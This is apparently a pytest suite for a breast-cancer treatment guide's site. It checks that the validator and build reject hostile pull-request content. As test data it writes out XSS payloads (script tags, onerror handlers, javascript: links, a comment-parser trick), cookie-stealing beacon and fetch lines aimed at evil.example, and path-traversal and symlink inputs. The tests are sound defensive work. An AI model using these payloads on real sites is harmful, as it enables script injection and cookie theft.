"""Hostile and careless pull requests: nothing reaches readers' browsers, and no input gives a traceback.

Each case breaks one thing in a copy of the project, then runs the validator and
the strict build on it. Both must stop with a clear message (file, line where
known, what to do), exit 1 for a coverage or safety problem and 2 for unusable
input, and never print a traceback.
"""
from __future__ import annotations

import contextlib
import io
import json
import os
import re
import subprocess
from pathlib import Path
from unittest import mock

import pytest

from mbc_guide.checks import review_command, validator
from mbc_guide.html.tree import elements, parse_document
from tests.helpers import ROOT, build_site, with_editions


@pytest.fixture
def project(site_copy) -> Path:
    """A writable copy of the project to break on purpose (tests/conftest.py)."""
    return site_copy


def edit(path: Path, old: str, new: str, count: int = 1) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, f"{old!r} is no longer in {path.name}: update the test"
    path.write_text(text.replace(old, new, count), encoding="utf-8")


def validate(project: Path, *extra: str) -> subprocess.CompletedProcess:
    """The validator on the copy, as run from inside it, with no source texts beside it.

    It runs in this process (mbc_guide.checks.validator, the command scripts/validate.py runs, without a
    Python start-up for each of the many cases), on the copy's files, from the copy's folder.
    """
    args = ["--docs", str(project / "docs"), "--sources", str(project / "data" / "sources.yml"),
            "--glossary", str(project / "data" / "glossary.yml"), "--config", str(project / "mkdocs.yml"),
            "--source-texts", str(project.parent / "shared" / "sources"), *extra]
    out, err = io.StringIO(), io.StringIO()
    with mock.patch.dict(os.environ), contextlib.chdir(project), contextlib.redirect_stdout(out), \
            contextlib.redirect_stderr(err):
        os.environ.pop("REQUIRE_SOURCES", None)
        code = validator.main(args)
    return subprocess.CompletedProcess(["validate.py", *args], code, out.getvalue(), err.getvalue())


def build(project: Path) -> subprocess.CompletedProcess:
    return build_site(project / "site", project=project)


def assert_clean_failure(result: subprocess.CompletedProcess, expected: str, code: int | None = None) -> None:
    output = result.stdout + result.stderr
    assert "Traceback" not in output, output
    assert result.returncode != 0, output
    if code is not None:
        assert result.returncode == code, output
    assert re.search(expected, output), f"expected /{expected}/ in:\n{output}"


CHEMO = "docs/treatment/chemotherapy.md"
CHEMO_REVIEWED = re.search(r"^reviewed: (\S+)$", (ROOT / CHEMO).read_text(encoding="utf-8"), re.M)[1]

# (what to break, file, old text, new text, expected message, validator exit code)
CASES = {
    "raw script": (CHEMO, "# Chemotherapy", "# Chemotherapy\n\n<script>alert(1)</script>",
                   r"chemotherapy\.md.*(line \d+|:\d+).*<script> element is not allowed", 1),
    "event handler": (CHEMO, "# Chemotherapy", '# Chemotherapy\n\n<img src="x.png" onerror="alert(1)">',
                      r"chemotherapy\.md.*(line \d+|:\d+).*event handler onerror= on <img>", 1),
    "javascript link": (CHEMO, "# Chemotherapy", "# Chemotherapy\n\n[More](javascript:alert(1))",
                        r"chemotherapy\.md.*(line \d+|:\d+).*address 'javascript:alert\(1\)'", 1),
    "iframe": (CHEMO, "# Chemotherapy", '# Chemotherapy\n\n<iframe src="https://example.org"></iframe>',
               r"<iframe> element is not allowed", 1),
    "form": (CHEMO, "# Chemotherapy", '# Chemotherapy\n\n<form><input name="q"></form>',
             r"<form> element is not allowed", 1),
    "theme config id": (CHEMO, "# Chemotherapy",
                        '# Chemotherapy\n\n<div id="__config" hidden>{"search": "https://evil.example/w.js"}</div>',
                        r"chemotherapy\.md.*(line \d+|:\d+).*the id '__config' in id= \(it belongs to the theme", 1),
    "theme search label": (CHEMO, "# Chemotherapy", '# Chemotherapy\n\n<label for="__search">Search</label>',
                           r"chemotherapy\.md.*(line \d+|:\d+).*the id '__search' in for=", 1),
    "theme id on a heading": (CHEMO, "## ", "## Settings {#__drawer}\n\n## ",
                              r"chemotherapy\.md.*(line \d+|:\d+).*the id '__drawer' in id=", 1),
    "theme data attribute": (CHEMO, "# Chemotherapy", '# Chemotherapy\n\n<p data-md-component="search">x</p>',
                             r"chemotherapy\.md.*(line \d+|:\d+).*the attribute data-md-component= on <p>", 1),
    "comment parser difference": (CHEMO, "# Chemotherapy",
                                  "# Chemotherapy\n\n<!-- c -- > <img src=x onerror=alert(1)> -->",
                                  r"chemotherapy\.md.*(line \d+|:\d+).*an HTML comment \(<!-- \.\.\. -->\) is not", 1),
    "off-site image": (CHEMO, "# Chemotherapy", "# Chemotherapy\n\n![A chart](https://tracker.example/p.png)",
                       r"chemotherapy\.md.*(line \d+|:\d+).*image source 'https://tracker\.example/p\.png'", 1),
    "protocol-relative image": (CHEMO, "# Chemotherapy", "# Chemotherapy\n\n![A chart](//tracker.example/p.png)",
                                r"chemotherapy\.md.*(line \d+|:\d+).*image source '//tracker\.example/p\.png'", 1),
    "backslash image": (CHEMO, "# Chemotherapy", '# Chemotherapy\n\n<img src="/\\tracker.example/p.png" alt="A chart">',
                        r"chemotherapy\.md.*(line \d+|:\d+).*image source '/\\\\tracker\.example/p\.png'", 1),
    "site javascript link": (CHEMO, "# Chemotherapy", "# Chemotherapy\n\n[Download](site:javascript:alert(1))",
                             r"chemotherapy\.md.*(line \d+|:\d+).*address 'site:javascript:alert\(1\)'", 1),
    "quoted date": (CHEMO, f"reviewed: {CHEMO_REVIEWED}\n", f'reviewed: "{CHEMO_REVIEWED}"\n',
                    r"chemotherapy\.md.*(line \d+|:\d+).*`reviewed` date in quotes", 1),
    "nested source list": (CHEMO, "sources: [medical-news-today", "sources: [[x], medical-news-today",
                           r"chemotherapy\.md.*(line \d+|:\d+).*not an id", 1),
    "unclosed front matter": (CHEMO, "\n---\n", "\n\n", r"chemotherapy\.md:1: .*never closed", 2),
    "javascript source url": ("data/sources.yml", "url: https://www.medicalnewstoday.com",
                              "url: javascript:alert(1)//www.medicalnewstoday.com",
                              r"data/sources\.yml:\d+: source 'medical-news-today': 'url' must be a web address", 2),
    "number as id": ("data/sources.yml", "  immunotherapy:\n", "  2024:\n",
                     r"data/sources\.yml:\d+: '2024' under 'treatments' is not a usable id", 2),
    "yes as id": ("data/sources.yml", "  immunotherapy:\n", "  yes:\n",
                  r"data/sources\.yml:\d+: 'True' under 'treatments' is not a usable id", 2),
    "list as key": ("data/glossary.yml", "reviewed:", "[a, b]: 1\nreviewed:", r"data/glossary\.yml:\d+: .*key", 2),
    "page path outside docs": ("data/sources.yml", "page: treatment/chemotherapy.md",
                               "page: ../../etc/passwd.md", r"data/sources\.yml:\d+: .*'page' must be", 2),
}


# Content the safety gate refuses: the build reports every such problem before it stops, so one build
# of a page carrying all of them checks each message (test_the_build_reports_every_unsafe_element).
UNSAFE_CONTENT = ("raw script", "event handler", "javascript link", "iframe", "form", "theme config id",
                  "theme search label", "theme id on a heading", "theme data attribute", "comment parser difference",
                  "off-site image", "protocol-relative image", "backslash image", "site javascript link")


def build_message(expected: str) -> str:
    """The expected message as the build prints it: with the line as ':N'."""
    return expected.replace(r"(line \d+|:\d+)", r":\d+")


@pytest.mark.parametrize("case", CASES, ids=list(CASES))
def test_bad_input_stops_the_validator_cleanly(project, case):
    file, old, new, expected, code = CASES[case]
    edit(project / file, old, new)
    assert_clean_failure(validate(project), expected, code)
    result = validate(project, "--format", "json")
    data = json.loads(result.stdout)  # always JSON, even on exit 2
    assert data["ok"] is False


@pytest.mark.builds
@pytest.mark.parametrize("case", [case for case in CASES if case not in UNSAFE_CONTENT])
def test_bad_input_stops_the_build_cleanly(project, case):
    file, old, new, expected, _ = CASES[case]
    edit(project / file, old, new)
    assert_clean_failure(build(project), build_message(expected))


@pytest.mark.builds
def test_the_build_reports_every_unsafe_element(project):
    for case in UNSAFE_CONTENT:
        file, old, new, _, _ = CASES[case]
        edit(project / file, old, new)
    result = build(project)
    for case in UNSAFE_CONTENT:
        assert_clean_failure(result, build_message(CASES[case][3]))


# Files under docs/ that a browser would run or show as a page, unchecked (content_policy.file_problem).
UNCHECKED_FILES = {
    "help.html": '<script>navigator.sendBeacon("https://evil.example/", document.cookie)</script>',
    "assets/images/x.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "assets/javascripts/evil.js": "fetch('https://evil.example/?' + location)",
    "about/notes.xml": '<?xml-stylesheet href="data:text/xsl,x"?><x/>',
}


@pytest.mark.parametrize("name", UNCHECKED_FILES)
def test_validator_refuses_unchecked_files(project, name):
    (project / "docs" / name).write_text(UNCHECKED_FILES[name], encoding="utf-8")
    assert_clean_failure(validate(project), rf"docs/{re.escape(name)}: a \.\w+ file is published as it is, unchecked.*"
                                            r"write it as a Markdown page", 1)


@pytest.mark.builds
def test_the_build_refuses_unchecked_files_and_never_publishes_them(project):
    for name, text in UNCHECKED_FILES.items():
        (project / "docs" / name).write_text(text, encoding="utf-8")
    result = build(project)
    for name in UNCHECKED_FILES:
        assert_clean_failure(result, rf"docs/{re.escape(name)}: a \.\w+ file is published as it is, unchecked")
    result = build_site(project / "site", project=project, strict=False)
    assert result.returncode == 0, result.stderr
    assert not [name for name in UNCHECKED_FILES if (project / "site" / name).exists()]
    assert (project / "site" / "assets" / "favicon.svg").is_file()  # the site's own, listed


@pytest.mark.builds
def test_page_that_is_not_utf8(project):
    page = project / CHEMO
    page.write_bytes(page.read_bytes() + b"\ncaf\xe9\n")
    assert_clean_failure(validate(project), r"chemotherapy\.md:\d+: the page is not UTF-8", 2)
    assert_clean_failure(build(project), r"chemotherapy\.md:\d+: the page is not UTF-8")


@pytest.mark.builds
def test_data_file_that_is_not_utf8(project):
    path = project / "data" / "glossary.yml"
    path.write_bytes(path.read_bytes().replace(b"A group", b"A gr\xf6up", 1))
    assert_clean_failure(validate(project), r"data/glossary\.yml.*UTF-8", 2)
    assert_clean_failure(build(project), r"data/glossary\.yml.*UTF-8")


def test_folder_named_like_a_page(project):
    (project / "docs" / "x.md").mkdir()
    assert_clean_failure(validate(project), r"docs/x\.md: this is a folder", 2)


@pytest.mark.builds
@pytest.mark.parametrize("target", ["/etc/hostname", "/no/such/file"])
def test_symbolic_links_in_docs_are_refused(project, target):
    (project / "docs" / "leak.md").symlink_to(target)
    assert_clean_failure(validate(project), r"leak\.md: the page is a symbolic link", 2)
    (project / "docs" / "assets" / "leak.css").symlink_to(target)
    assert_clean_failure(build(project), r"symbolic link")


def test_empty_docs_folder_is_unusable_input(project, tmp_path):
    empty = tmp_path / "empty"
    empty.mkdir()
    assert_clean_failure(validate(project, "--docs", str(empty)), r"holds no \.md pages", 2)


@pytest.mark.builds
def test_byte_order_mark_reads_the_same_everywhere(project):
    page = project / CHEMO
    page.write_bytes(b"\xef\xbb\xbf" + page.read_bytes())
    assert validate(project).returncode == 0
    assert build(project).returncode == 0


@pytest.mark.builds
def test_hostile_data_is_escaped_on_every_page(project):
    """Markup in a source title, a publisher or a treatment name reaches pages as text, never as HTML."""
    sources = project / "data" / "sources.yml"
    edit(sources, "title: Treating metastatic breast cancer", 'title: "Treating <img src=x onerror=alert(1)> cancer"')
    edit(sources, "publisher: Medical News Today", 'publisher: "Medical <b>News</b> Today"')
    edit(sources, "name: Chemotherapy", 'name: "Chemo<script>alert(2)</script>"')
    with contextlib.chdir(project), contextlib.redirect_stdout(io.StringIO()):  # as a maintainer would record it
        assert review_command.main(["glossary.md", "treatment/side-effects.md", "--note", "A test."], root=project) == 0
    result = build(project)
    assert result.returncode == 0, result.stderr
    for html_file in (project / "site").rglob("*.html"):
        text = html_file.read_text(encoding="utf-8")
        for element in elements(parse_document(text).body and _body_fragment(text)):
            assert not any(name.startswith("on") for name in element.attributes), (html_file, element.html)
        assert "<script>alert(2)" not in text and "<b>News</b>" not in text, html_file
    chemo = (project / "site" / "treatment" / "chemotherapy" / "index.html").read_text(encoding="utf-8")
    assert "Treating &lt;img src=x onerror=alert(1)&gt; cancer" in chemo


def _body_fragment(document: str):
    from mbc_guide.html.tree import parse_fragment
    return parse_fragment(parse_document(document).body.html)


@pytest.mark.builds
def test_a_spanish_page_has_the_same_doors_shut(project):
    """The Spanish edition is built by the same hooks: a script or event handler in a translated page fails the
    build, naming that page and line, and nothing is left to publish."""
    with_editions(project)
    spanish = project / "docs" / "es" / "treatment" / "chemotherapy.md"
    edit(spanish, "# Quimioterapia", '# Quimioterapia\n\n<script>alert(1)</script>\n\n<img src="x.png" onerror="alert(1)">')
    result = build(project)
    assert_clean_failure(result, r"docs/es/treatment/chemotherapy\.md:\d+.*<script> element is not allowed")
    assert_clean_failure(result, r"docs/es/treatment/chemotherapy\.md:\d+.*event handler onerror= on <img>")
    assert not (project / "site").exists(), "a failed build left a site to publish"
